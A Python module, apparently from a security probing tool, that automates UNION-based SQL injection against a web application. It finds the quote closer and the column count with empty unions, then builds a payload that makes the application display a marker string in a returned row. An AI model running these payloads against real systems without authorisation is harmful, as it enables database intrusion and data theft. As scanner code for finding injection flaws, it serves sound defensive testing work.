"""A UNION, built up from what the target answers: first the number of columns, then a row that it can show.

The number of columns is found with unions of no rows (`WHERE 1=0`): the database refuses all numbers but the right one,
and the application has no odd row to stumble over. Then columns take texts, numbers and a list until the application
shows the row, and last the marker goes into one column after another.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass

import httpx

from security.probe.scene import field_of

MOST_COLUMNS = 48
# What closes the text that a value may stand in, up to a sub-query in a sub-query.
CLOSERS = ("'", "')", "'))")
# A text that reads as a number too: it passes for either where answers are validated. A list is stored as its JSON.
NUMBER, TEXT, LIST = "1", "'1'", "'[]'"

Send = Callable[[str], httpx.Response]


@dataclass(frozen=True)
class Shape:
    """A union that the database accepts: how the value is closed, and how many columns there are."""

    closer: str
    columns: int


def find_shape(send: Send, value: str) -> Shape | None:
    """The union of no rows that is answered where all others fail; None if there is none."""
    for closer in CLOSERS:
        answered = [n for n in range(1, MOST_COLUMNS + 1) if send(_empty(value, closer, n)).is_success]
        # Where every number is answered the value is inert; where none is, it is closed in another way.
        if len(answered) == 1:
            return Shape(closer, answered[0])
    return None


def bring_back(send: Send, value: str, shape: Shape, marker: str) -> str | None:
    """The payload whose answer shows `marker` in a row; None if no row can be shown."""
    for row in _rows(shape.columns):
        if not _shows_row(send(_union(value, shape.closer, row))):
            continue
        for place in range(shape.columns):
            payload = _union(value, shape.closer, [*row[:place], f"'{marker}'", *row[place + 1 :]])
            answer = send(payload)
            # An error may quote the whole payload: only a list that holds the marker and not the payload is a row.
            if _shows_row(answer) and marker in answer.text and payload not in answer.text:
                return payload
    return None


def _rows(columns: int) -> Iterator[list[str]]:
    """Rows of texts, one of which may be a list; times are numbers, and stand side by side."""
    for first in range(-1, columns - 1):
        times = (first, first + 1) if first >= 0 else ()
        for listed in range(-1, columns):
            yield [NUMBER if place in times else LIST if place == listed else TEXT for place in range(columns)]


def _shows_row(answer: httpx.Response) -> bool:
    return answer.is_success and bool(field_of(answer, "articles"))


def _empty(value: str, closer: str, columns: int) -> str:
    return f"{_union(value, closer, ['NULL'] * columns)[: -len(_REST)]} WHERE 1=0{_REST}"


def _union(value: str, closer: str, columns: Sequence[str]) -> str:
    return f"{value}{closer} UNION SELECT {','.join(columns)}{_REST}"


# Comments out what followed the value on its line.
_REST = " -- "
